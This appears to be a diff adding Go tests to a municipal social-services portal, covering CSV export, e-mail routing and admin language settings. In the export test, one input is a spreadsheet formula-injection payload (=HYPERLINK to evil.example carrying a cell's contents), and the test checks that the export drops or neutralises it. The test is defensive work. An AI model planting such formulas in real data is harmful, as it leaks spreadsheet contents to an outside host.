@@ -405,3 +405,68 @@ func TestUnreadableKeptAside(t *testing.T) {
 		t.Error("after the purge the store file still holds the message kept aside")
 	}
 }
+
+// TestExportLeavesTypedAreasOut: the export gives areas as the purge keeps them, the typed ones
+// only when asked, and no cell that a spreadsheet runs.
+func TestExportLeavesTypedAreasOut(t *testing.T) {
+	e := newEnv(t)
+	typed := report
+	typed.Area = `=HYPERLINK("https://evil.example/?"&A1,"Apri") via Emilia 12`
+	known := report
+	known.Area = "Medassino"
+	e.submit(typed)
+	e.submit(known)
+	e.admin("pull")
+	out := e.admin("export", "-format", "csv")
+	if strings.Contains(out, "Emilia") || strings.Contains(out, "HYPERLINK") || !strings.Contains(out, ",Medassino,") {
+		t.Errorf("export: got\n%s\nwant the known area and not the typed one", out)
+	}
+	out = e.admin("export", "-format", "csv", "-typed-areas")
+	if !strings.Contains(out, `"'=HYPERLINK(""https://evil.example/?""&A1,""Apri"") via Emilia 12"`) {
+		t.Errorf("export -typed-areas: got\n%s\nwant the typed area, as text", out)
+	}
+}
+
+// TestRouteFromThePortalsData: without SHAPS_MAIL_FROM the e-mail comes from portal.yaml's
+// contact.email, and it names the service by its title with a link to its page.
+func TestRouteFromThePortalsData(t *testing.T) {
+	e := newEnv(t)
+	delete(e.vars, "SHAPS_MAIL_FROM")
+	r := shared
+	r.Association, r.Service = "filo-d-argento-iriense", "filo-d-argento-iriense/telefono-amico"
+	code := e.submit(r)
+	e.admin("pull")
+	e.admin("route", code, "-to", "filo-d-argento-iriense")
+	emls, _ := filepath.Glob(filepath.Join(e.vars["SHAPS_OUTBOX"], "*-"+code+"-filo-d-argento-iriense.eml"))
+	if len(emls) != 1 {
+		t.Fatalf("got %d e-mails to the association, want 1", len(emls))
+	}
+	b := decoded(t, emls[0])
+	for _, want := range []string{"From: \"Comune di Voghera\" <servizisociali@comune.voghera.pv.it>",
+		"Servizio indicato: Telefono amico\n  https://shaps.comune.voghera.pv.it/servizi/filo-d-argento-iriense/telefono-amico/\n"} {
+		if !strings.Contains(b, want) {
+			t.Errorf("e-mail lacks %q:\n%s", want, b)
+		}
+	}
+	if strings.Contains(b, "Servizio indicato: filo-d-argento-iriense/telefono-amico") {
+		t.Errorf("the service is named by its slug:\n%s", b)
+	}
+}
+
+// TestLanguageIsAFile: the office's language is a message file; one that does not exist stops
+// the commands that write, with the languages there are.
+func TestLanguageIsAFile(t *testing.T) {
+	e := newEnv(t)
+	code := e.submit(report)
+	e.admin("pull")
+	e.vars["SHAPS_ADMIN_LANG"] = "xx"
+	var out bytes.Buffer
+	err := run(context.Background(), []string{"route", code, "-to", "croce-azzurra-oltrepo"}, func(k string) string { return e.vars[k] }, &out, &out, func() time.Time { return e.clock })
+	if err == nil || !strings.Contains(err.Error(), "SHAPS_ADMIN_LANG") || !strings.Contains(err.Error(), "[it]") {
+		t.Errorf("route with SHAPS_ADMIN_LANG=xx: got %v, want an error naming the variable and the languages", err)
+	}
+	e.vars["SHAPS_ADMIN_LANG"] = "it"
+	if out := e.admin("route", code, "-to", "croce-azzurra-oltrepo"); !strings.Contains(out, "routed to") {
+		t.Errorf("route in Italian: got %q", out)
+	}
+}
